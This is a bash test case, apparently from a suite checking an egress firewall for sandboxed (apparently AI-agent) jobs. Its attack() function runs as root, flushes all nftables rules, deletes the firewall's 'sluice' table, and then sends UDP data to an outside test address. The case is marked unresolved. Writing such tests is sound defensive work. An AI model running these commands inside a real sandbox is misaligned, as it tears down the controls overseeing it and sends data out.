# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='The rules flushed by root in the job'
origin='RESEARCH §2.75; gh-aw-firewall#129'
reason='not_resolved'
forms=run who=root
attack() {
    local flush='command -v nft > /dev/null && { nft flush ruleset; nft delete table inet sluice; } 2> /dev/null;'
    [ "$FORM" = run ] || flush= # without a gate the rules are the bed's own
    client sh -c "$flush"' exec "$@"' sh "$PYTHON" "$TOOL/send.py" udp 198.18.3.66 9999 "$1"
}
